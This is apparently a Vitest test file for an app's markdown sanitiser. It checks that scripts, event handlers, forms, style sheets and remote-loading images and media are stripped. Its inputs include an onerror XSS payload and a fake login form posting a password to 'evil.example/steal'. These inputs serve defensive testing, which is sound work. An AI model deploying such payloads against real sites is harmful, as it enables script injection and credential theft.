// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { sanitizeHtml } from "../../visualizations/lib/sanitize";
import { loadsFromHere, markdownHtml } from "./markdown";

/** The sanitised HTML as a document fragment, to look for elements and attributes. */
const render = (text: string) => {
  const template = document.createElement("template");
  template.innerHTML = markdownHtml(text);
  return template.content;
};

describe("text box markdown", () => {
  it("renders markdown and removes scripts and event handlers", () => {
    const html = markdownHtml(
      '## Sales\n\n**Bold** <img src=x onerror="alert(1)"><script>x()</script>',
    );
    expect(html).toContain("<h2>Sales</h2>");
    expect(html).toContain("<strong>Bold</strong>");
    expect(html).not.toContain("onerror");
    expect(html).not.toContain("<script");
  });

  it("keeps no form, form field or style sheet", () => {
    const page = render(
      '<form action="https://evil.example/steal" method="post"><label>Password ' +
        '<input type="password" name="p"></label><textarea></textarea><select><option>a</option>' +
        '</select><button formaction="https://evil.example">Sign in</button></form>' +
        "<style>body { display: none }</style>\n\nAfter the form",
    );
    for (const tag of ["form", "input", "textarea", "select", "option", "button", "style"]) {
      expect(page.querySelector(tag)).toBeNull();
    }
    expect(page.textContent).toContain("Password");
    expect(page.textContent).toContain("After the form");
  });

  it("loads images and media only from the app's own origin or data: URIs", () => {
    const page = render(
      "![remote](https://tracker.example/pixel.png) ![protocol-relative](//tracker.example/p.png)\n\n" +
        '![own](/static/logo.png) ![relative](images/chart.png) <img src="data:image/png;base64,iVBORw0KGgo=">\n\n' +
        '<img src="/ok.png" srcset="https://tracker.example/2x.png 2x">' +
        '<video src="https://tracker.example/v.mp4" poster="https://tracker.example/p.png"></video>' +
        '<svg><image href="https://tracker.example/s.png"></image></svg>' +
        '<p style="background: url(https://tracker.example/bg.png)">styled</p>' +
        '<p style="background: u\\72l(https://tracker.example/bg.png)">escaped</p>' +
        '<p style="color: red">red</p>',
    );
    const sources = [...page.querySelectorAll("img")].map((img) => img.getAttribute("src"));
    expect(sources).toEqual([
      "/static/logo.png",
      "images/chart.png",
      "data:image/png;base64,iVBORw0KGgo=",
      "/ok.png",
    ]);
    expect(page.textContent).toContain("remote");
    expect(page.textContent).toContain("protocol-relative");
    expect(page.querySelector("[srcset]")).toBeNull();
    expect(page.querySelector("video")?.getAttribute("src")).toBeNull();
    expect(page.querySelector("video")?.getAttribute("poster")).toBeNull();
    expect(page.querySelector("image")?.getAttribute("href")).toBeNull();
    const styles = [...page.querySelectorAll("p[style]")].map((p) => p.textContent);
    expect(styles).toEqual(["red"]);
    // A remote image shows its alt text instead.
    expect(markdownHtml("![Sales chart](https://tracker.example/a.png)")).toBe(
      "<p>Sales chart</p>\n",
    );
    expect(markdownHtml('<img src="https://tracker.example/a.png">')).not.toContain("img");
  });

  it("keeps links to other sites, opening in a new tab safely", () => {
    const html = markdownHtml('<a href="https://example.com/docs" target="_blank">Docs</a>');
    expect(html).toContain('href="https://example.com/docs"');
    expect(html).toContain('rel="noopener noreferrer"');
  });

  it("leaves the other sanitised HTML (table cells, map popups) as it was", () => {
    expect(sanitizeHtml('<img src="https://example.com/a.png">')).toContain("example.com");
    expect(sanitizeHtml('<a href="/x" target="top">x</a>')).not.toContain("target");
  });

  it("tells addresses of the app's origin from others", () => {
    expect(loadsFromHere("/a.png")).toBe(true);
    expect(loadsFromHere(`${window.location.origin}/a.png`)).toBe(true);
    expect(loadsFromHere("data:image/gif;base64,R0lGOD")).toBe(true);
    expect(loadsFromHere("https://elsewhere.example/a.png")).toBe(false);
    expect(loadsFromHere("//elsewhere.example/a.png")).toBe(false);
  });
});
